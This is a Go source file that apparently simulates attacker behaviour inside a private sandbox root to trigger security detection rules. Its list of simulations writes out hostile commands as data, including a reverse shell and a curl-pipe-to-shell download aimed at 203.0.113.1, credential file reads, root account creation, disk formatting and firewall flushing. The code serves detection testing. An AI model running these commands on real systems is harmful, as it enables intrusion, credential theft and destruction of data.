package simulate

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"

	"golang.org/x/sys/unix"
)

// inPrivateRoot makes a simulation of one step in a private root on the host: see root.
func inPrivateRoot(rule, does string, r root, step string, args ...string) Simulation {
	return Simulation{Rule: rule, Does: does, Needs: []Need{Root, Static}, run: func(e *env) error { return e.inRoot(r, step, args...) }}
}

// writes makes a simulation that writes a file in a private root, where it means nothing.
func writes(rule, path string) Simulation {
	return inPrivateRoot(rule, "Writes "+path+" in a private root, where nothing reads it.",
		root{Files: map[string]string{filepath.Dir(path) + "/": ""}}, "write-file", path)
}

// reads makes a simulation that opens a file in a private root, where it is empty.
func reads(rule, path string) Simulation {
	return inPrivateRoot(rule, "Opens "+path+" in a private root, where it is an empty file.",
		root{Files: map[string]string{path: ""}}, "open-for-reading", path)
}

// starts makes a simulation that starts a program in a private root: one of that name that does nothing.
func starts(rule, path string, argv ...string) Simulation {
	return inPrivateRoot(rule, "Starts a program in a private root that is called "+path+" and does nothing.",
		root{Programs: []string{path}}, "exec", slices.Concat([]string{path}, argv)...)
}

var fileSimulations = []Simulation{
	reads("shadow_file_read", "/etc/shadow"),
	reads("kubernetes_credentials_read", "/etc/kubernetes/pki/ca.key"),
	reads("ssh_private_key_read", "/root/.ssh/id_ed25519"),
	reads("cloud_credentials_read", "/root/.aws/credentials"),
	reads("shell_history_read", "/root/.bash_history"),
	reads("input_device_read", "/dev/input/event0"),

	writes("scheduled_task_write", "/etc/cron.d/simulation"),
	writes("systemd_unit_write", "/etc/systemd/system/simulation.service"),
	writes("boot_script_write", "/etc/init.d/simulation"),
	writes("shell_profile_write", "/root/.bashrc"),
	writes("ssh_authorized_keys_write", "/root/.ssh/authorized_keys"),
	writes("account_file_write", "/etc/passwd"),
	writes("sudoers_write", "/etc/sudoers.d/simulation"),
	writes("pam_config_write", "/etc/pam.d/simulation"),
	writes("dynamic_linker_hijack", "/etc/ld.so.preload"),
	writes("kernel_module_autoload", "/etc/modules-load.d/simulation.conf"),
	writes("udev_rule_write", "/etc/udev/rules.d/99-simulation.rules"),
	writes("package_hook_write", "/etc/apt/apt.conf.d/99simulation"),
	writes("desktop_autostart_write", "/root/.config/autostart/simulation.desktop"),
	writes("system_binary_write", "/usr/bin/simulation"),
	writes("audit_config_write", "/etc/audit/rules.d/simulation.rules"),
	writes("block_device_write", "/dev/sdsimulation"),
	inPrivateRoot("kernel_hardening_off", "Opens /proc/sys/kernel/randomize_va_space for writing, and writes nothing.",
		root{}, "open-for-writing", "/proc/sys/kernel/randomize_va_space"),

	writes("log_cleared", "/var/log/auth.log"),
	writes("shell_history_cleared", "/root/.bash_history"),
	inPrivateRoot("setuid_bit_set", "Sets the set-user-id bit of a file of its own in a private root, which is mounted nosuid.",
		root{Files: map[string]string{"/tmp/simulation": ""}}, "set-user-id", "/tmp/simulation"),
	inPrivateRoot("self_deletion", "Starts a program in a private root that removes itself.", root{}, "self-removal", "/tmp/simulation"),
	inPrivateRoot("process_hidden_by_mount", "Mounts an empty file system over its own directory in /proc, in a mount namespace of its own.", root{}, "hide-process"),
	inPrivateRoot("executable_written_to_hidden_path", "Writes a program that does nothing to a hidden directory in a private root.",
		root{Files: map[string]string{"/tmp/.simulation/": ""}}, "write-program", "/tmp/.simulation/program"),
	inPrivateRoot("web_shell_write", "Writes, from this binary under the name /usr/sbin/nginx, a file that ends in .php in a private root.",
		root{Links: []string{"/usr/sbin/nginx"}, Files: map[string]string{"/var/www/": ""}}, "as", "/usr/sbin/nginx", "write-file", "/var/www/simulation.php"),
	inPrivateRoot("ransomware_rename", "Renames 60 empty files of its own in a private root.", root{Files: map[string]string{"/srv/": ""}}, "rename-many", "/srv"),
	inPrivateRoot("mass_deletion", "Removes 1,100 empty files of its own in a private root.", root{Files: map[string]string{"/srv/": ""}}, "remove-many", "/srv"),

	inPrivateRoot("sensitive_file_linked", "Makes a symbolic link to /etc/shadow in a private root, where there is none.",
		root{}, "symlink", "/etc/shadow", "/tmp/simulation"),
	inPrivateRoot("hard_link_into_system", "Makes a hard link to an empty file in /etc/cron.d of a private root, where nothing reads it.",
		root{Files: map[string]string{"/etc/cron.d/": "", "/tmp/simulation": ""}}, "link", "/tmp/simulation", "/etc/cron.d/simulation"),
	inPrivateRoot("path_traversal_read", "Opens, from this binary under the name /usr/sbin/nginx, /var/www/../../etc/passwd in a private root, where it is an empty file.",
		root{Links: []string{"/usr/sbin/nginx"}, Files: map[string]string{"/etc/passwd": "", "/var/www/": ""}}, "as", "/usr/sbin/nginx", "open-for-reading", "/var/www/../../etc/passwd"),
	inPrivateRoot("loader_tunables_exploit", "Starts a statically linked program called /usr/bin/su, which does nothing, with GLIBC_TUNABLES.",
		root{Programs: []string{"/usr/bin/su"}}, "exec-with", "GLIBC_TUNABLES=glibc.malloc.mxfast=0", "/usr/bin/su", "su"),
	inPrivateRoot("backdoored_library", "Maps a program that does nothing under the name liblzma.so.5.6.1 in a private root.",
		root{Files: map[string]string{"/usr/lib/": ""}}, "map-library", "/usr/lib/liblzma.so.5.6.1"),
	inPrivateRoot("shell_of_system_account", "Starts this binary under the name /bin/sh on a terminal as user 33 in a private root.",
		root{Links: []string{shellPath}, Terminals: true}, "shell-on-terminal", "33"),

	starts("file_shredded", "/usr/bin/shred", "shred", "-u", "/nothing"),
	starts("execution_from_temporary_directory_on_host", "/tmp/simulation", "simulation"),
	inPrivateRoot("shell_history_disabled", "Starts a program that does nothing with HISTFILE=/dev/null in a private root.",
		root{Programs: []string{"/usr/bin/simulation"}}, "exec-with", "HISTFILE=/dev/null", "/usr/bin/simulation", "simulation"),
	inPrivateRoot("system_file_covered_by_mount", "Mounts an empty file system over /etc/cron.d in a private root, where nothing reads it.",
		root{Files: map[string]string{"/etc/cron.d/": ""}}, "cover", "/etc/cron.d"),
	inPrivateRoot("aslr_inspected", "Opens /proc/sys/kernel/randomize_va_space for reading, and reads nothing.",
		root{}, "open-for-reading", "/proc/sys/kernel/randomize_va_space"),
	starts("sensitive_files_archived", "/usr/bin/tar", "tar", "czf", "/tmp/simulation.tgz", "/root/.ssh"),
	starts("root_account_created", "/usr/sbin/useradd", "useradd", "-o", "-u", "0", "simulation"),
	starts("enumeration_tool", "/tmp/linpeas.sh", "linpeas.sh"),
	starts("reverse_shell_command", "/usr/bin/ncat", "ncat", "203.0.113.1", "4444", "-e", "/bin/sh"),
	starts("download_and_execute", "/bin/sh", "sh", "-c", "curl -s http://203.0.113.1/simulation | sh"),
	starts("encoded_command", "/bin/sh", "sh", "-c", "echo dHJ1ZQ== | base64 -d | sh"),
	starts("package_manager_command", "/usr/bin/apt-get", "apt-get", "update", "-o", "APT::Update::Pre-Invoke::=/bin/true"),
	starts("crypto_miner", "/tmp/simulation", "simulation", "-o", "stratum+tcp://203.0.113.1:3333"),
	starts("disk_destroyed", "/usr/sbin/mkfs.ext4", "mkfs.ext4", "/dev/sdsimulation"),
	starts("recovery_inhibited", "/usr/sbin/zfs", "zfs", "destroy", "simulation@snapshot"),
	starts("security_tool_stopped", "/usr/bin/systemctl", "systemctl", "stop", "auditd"),
	starts("firewall_flushed", "/usr/sbin/nft", "nft", "flush", "ruleset"),
	starts("audit_disabled", "/usr/sbin/auditctl", "auditctl", "-D"),
	starts("file_capabilities_set", "/usr/sbin/setcap", "setcap", "cap_setuid+ep", "/tmp/simulation"),
	starts("system_file_timestomp", "/usr/bin/touch", "touch", "-r", "/usr/bin/ls", "/usr/bin/simulation"),
	starts("immutable_flag_changed", "/usr/bin/chattr", "chattr", "+i", "/tmp/simulation"),
	starts("hidden_executable", "/tmp/.simulation/program", "program"),
	starts("kernel_thread_masquerade", "/usr/bin/simulation", "[kworker/0:1]"),
	starts("sudo_heap_overflow", "/usr/bin/sudo", "sudoedit", "-s", `simulation\`),
	starts("tunnel_tool", "/usr/local/bin/chisel", "chisel", "client", "203.0.113.1"),
	starts("ssh_port_forward", "/usr/bin/ssh", "ssh", "-R", "2222:localhost:22", "simulation"),
	inPrivateRoot("preloaded_library", "Starts a statically linked program, which loads no library, with LD_PRELOAD=/tmp/simulation.so.",
		root{Programs: []string{"/usr/bin/simulation"}}, "exec-with", "LD_PRELOAD=/tmp/simulation.so", "/usr/bin/simulation", "simulation"),
	inPrivateRoot("web_shell", "Starts, from this binary under the name /usr/sbin/nginx, a program that is called /bin/sh and does nothing.",
		root{Links: []string{"/usr/sbin/nginx"}, Programs: []string{"/bin/sh"}}, "as", "/usr/sbin/nginx", "exec", "/bin/sh", "sh"),
}

func stepWriteProgram(args []string) error { return writeProgram(args[0]) }

func stepWriteAndRun(args []string) error {
	if err := writeProgram(args[0]); err != nil {
		return err
	}
	return exec.CommandContext(context.Background(), args[0]).Run()
}

func stepSetUserID(args []string) error { return os.Chmod(args[0], 0o755|os.ModeSetuid) }

func stepSelfRemoval(args []string) error {
	if err := os.WriteFile(args[0], selfRemovingELF(), 0o755); err != nil {
		return err
	}
	if err := exec.CommandContext(context.Background(), args[0]).Run(); err != nil {
		return err
	}
	if _, err := os.Stat(args[0]); err == nil {
		return errors.New("the program did not remove itself")
	}
	return nil
}

func stepHideProcess([]string) error {
	return stepCover([]string{fmt.Sprintf("/proc/%d", os.Getpid())})
}

// stepMapLibrary maps a program as the dynamic loader maps a library.
func stepMapLibrary(args []string) error {
	if err := writeProgram(args[0]); err != nil {
		return err
	}
	f, err := os.Open(args[0])
	if err != nil {
		return err
	}
	defer f.Close()
	page, err := unix.Mmap(int(f.Fd()), 0, unix.Getpagesize(), unix.PROT_READ|unix.PROT_EXEC, unix.MAP_PRIVATE)
	if err != nil {
		return fmt.Errorf("mmap: %w", err)
	}
	return unix.Munmap(page)
}

// stepCover mounts an empty file system over a directory, and takes it away.
func stepCover(args []string) error {
	path := args[0]
	if err := unix.Mount("tmpfs", path, "tmpfs", 0, "size=4k"); err != nil {
		return fmt.Errorf("mount: %w", err)
	}
	return unix.Unmount(path, unix.MNT_DETACH)
}

func stepRenameMany(args []string) error {
	for i := range 60 {
		path := filepath.Join(args[0], strconv.Itoa(i))
		if err := os.WriteFile(path, nil, 0o600); err != nil {
			return err
		}
		if err := os.Rename(path, path+".locked"); err != nil {
			return err
		}
	}
	return nil
}

func stepRemoveMany(args []string) error {
	for i := range 1100 {
		path := filepath.Join(args[0], strconv.Itoa(i))
		if err := os.WriteFile(path, nil, 0o600); err != nil {
			return err
		}
		if err := unix.Unlink(path); err != nil {
			return err
		}
	}
	return nil
}
